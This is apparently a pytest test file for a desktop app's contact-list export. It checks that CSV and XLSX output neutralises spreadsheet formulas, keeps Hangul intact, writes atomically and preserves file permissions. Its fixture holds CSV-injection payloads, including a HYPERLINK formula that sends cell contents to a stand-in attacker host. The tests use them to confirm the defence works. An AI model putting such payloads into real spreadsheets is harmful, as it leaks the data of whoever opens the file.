"""Exporting lists: a spreadsheet never runs what a person typed, and Hangul survives both formats."""

from __future__ import annotations

import csv
import io
import os
import zipfile
from pathlib import Path

import openpyxl
import pytest

from desktop_app.domain.attendance import Role
from desktop_app.errors import UserError
from desktop_app.exchange.people_csv import neutralise, write_csv
from desktop_app.exchange.people_xlsx import write_xlsx
from desktop_app.services.delegations import add_to_delegation
from desktop_app.services.people import add_person, list_people, retire_person
from desktop_app.services.people_io import export_people, import_people, preview_people_file
from desktop_app.services.workspace import Workspace
from tests.people.conftest import Cast, person

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A2,"click")', "+1", "-2", "@SUM(A1:A9)", "=1+2"]


def read_csv_cells(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM that makes Excel read UTF-8
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


@pytest.fixture
def formulas(workspace: Workspace) -> None:
    for n, text in enumerate(FORMULAS):
        add_person(workspace, person(text, "US", title=text, email=f"p{n}@example.org", phone="+1-202-555-0100"))
    add_person(workspace, person("KIM Min-jun", "ROK", name_ko="김민준", title_ko="북미국장", internal_notes="secret"))


def test_csv_neutralises_every_formula_looking_cell(workspace: Workspace, tmp_path: Path, formulas: None) -> None:
    path = tmp_path / "out.csv"
    assert export_people(workspace, path) == 6
    header, *rows = read_csv_cells(path)
    assert header == [
        *("name", "name_ko", "title", "title_ko", "organization", "organization_ko"),
        *("side", "email", "phone"),
    ]
    for row in rows:
        for cell in row[:-1]:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
        assert row[-1] in ("+1-202-555-0100", "")  # a phone number is written as it is, for Outlook and Google
    names = {row[0] for row in rows}
    assert {"'" + text for text in FORMULAS} <= names
    assert ["KIM Min-jun", "김민준", "", "북미국장", "", "", "ROK", "", ""] in rows
    assert "secret" not in path.read_text(encoding="utf-8-sig")  # internal notes never leave


def test_owasp_rule_for_tab_and_carriage_return_and_full_width_forms(tmp_path: Path) -> None:
    cells = ["\tcmd", "\rcmd", "＝1+2", "plain", "a=b", "", "'quoted"]
    assert [neutralise(c) for c in cells] == ["'\tcmd", "'\rcmd", "'＝1+2", "plain", "a=b", "", "'quoted"]
    write_csv(tmp_path / "t.csv", ["name"], [[c] for c in cells])
    assert [row[0] for row in read_csv_cells(tmp_path / "t.csv")[1:]] == [neutralise(c) for c in cells]


def test_xlsx_cells_are_all_text_never_formulas(workspace: Workspace, tmp_path: Path, formulas: None) -> None:
    path = tmp_path / "out.xlsx"
    export_people(workspace, path)
    sheet = openpyxl.load_workbook(path).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert cells and all(cell.data_type == "s" for cell in cells)
    assert {cell.value for cell in cells} >= set(FORMULAS) | {"김민준", "북미국장"}  # stored as typed, as text
    with zipfile.ZipFile(path) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml


def test_xlsx_writer_drops_characters_a_workbook_cannot_hold(tmp_path: Path) -> None:
    write_xlsx(tmp_path / "t.xlsx", ["name"], [["bell\x07 and\ttab"]])
    sheet = openpyxl.load_workbook(tmp_path / "t.xlsx").active
    assert sheet is not None and sheet["A2"].value == "bell and\ttab"


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_hangul_round_trip(workspace: Workspace, tmp_path: Path, suffix: str, formulas: None) -> None:
    path = tmp_path / f"directory{suffix}"
    export_people(workspace, path)
    with Workspace.open(tmp_path / "other.sqlite3") as other:
        import_people(other, preview_people_file(other, path))
        fields = ("name", "name_ko", "title", "title_ko", "organization", "side", "email", "phone")

        def rows(ws: Workspace) -> list[tuple[str, ...]]:
            return sorted(tuple(getattr(p, f) for f in fields) for p in list_people(ws))

        assert rows(other) == rows(workspace)  # the formula-looking names come back as typed, too


def test_a_session_export_is_both_delegations_with_roles(workspace: Workspace, cast: Cast, tmp_path: Path) -> None:
    sid = cast.first.id or 0
    add_to_delegation(workspace, sid, cast.lee.id or 0)
    add_to_delegation(workspace, sid, cast.kim.id or 0, role=Role.HEAD)
    add_to_delegation(workspace, sid, cast.carter.id or 0, role=Role.HEAD)
    retire_person(workspace, cast.lee.id or 0)  # still in the past session's list
    path = tmp_path / "session.csv"
    assert export_people(workspace, path, session_id=sid) == 3
    header, *rows = read_csv_cells(path)
    assert header[-1] == "role"
    assert [(row[0], row[-1]) for row in rows] == [
        ("KIM Min-jun", "head"),
        ("LEE Seo-yeon", "member"),
        ("Emily Carter", "head"),
    ]


def test_a_failed_export_leaves_the_target_as_it_was(
    workspace: Workspace, tmp_path: Path, formulas: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = tmp_path / "out.csv"
    target.write_text("the previous export", encoding="utf-8")

    def disk_full(fd: int) -> None:
        raise OSError(28, "No space left on device")

    with monkeypatch.context() as patched, pytest.raises(UserError, match="No space left on device; it was left as it"):
        patched.setattr(os, "fsync", disk_full)
        export_people(workspace, target)
    assert target.read_text(encoding="utf-8") == "the previous export"
    assert sorted(p.name for p in tmp_path.iterdir() if "out.csv" in p.name) == ["out.csv"]  # no temporary left


def test_export_refuses_other_formats(workspace: Workspace, tmp_path: Path) -> None:
    with pytest.raises(UserError, match=r"export to a \.csv or \.xlsx file"):
        export_people(workspace, tmp_path / "out.pdf")


def test_a_new_export_follows_the_umask_and_a_replaced_one_keeps_its_mode(workspace: Workspace, tmp_path: Path) -> None:
    import os

    previous = os.umask(0o027)  # a list meant for the counterpart: colleagues in the group may read it
    try:
        fresh = tmp_path / "new.csv"
        export_people(workspace, fresh)
    finally:
        os.umask(previous)
    assert fresh.stat().st_mode & 0o777 == 0o640
    shared = tmp_path / "shared.csv"
    shared.write_text("old", encoding="utf-8")
    shared.chmod(0o644)
    export_people(workspace, shared)
    assert shared.stat().st_mode & 0o777 == 0o644
